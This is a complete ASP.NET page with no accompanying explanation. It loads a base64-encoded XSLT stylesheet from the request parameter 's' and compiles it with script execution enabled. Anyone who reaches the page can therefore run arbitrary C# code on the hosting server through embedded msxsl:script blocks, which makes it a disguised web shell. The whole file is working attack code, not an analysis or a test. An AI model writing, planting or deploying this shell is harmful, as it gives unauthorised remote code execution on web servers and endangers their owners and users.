<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<%
XmlDocument sheet = new XmlDocument();
sheet.LoadXml(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request["s"])));
XslCompiledTransform t = new XslCompiledTransform();
XsltSettings opts = new XsltSettings(false, true);
t.Load(sheet, opts, null);
XmlDocument input = new XmlDocument();
input.LoadXml("<x/>");
t.Transform(input, null, Response.Output);
%>
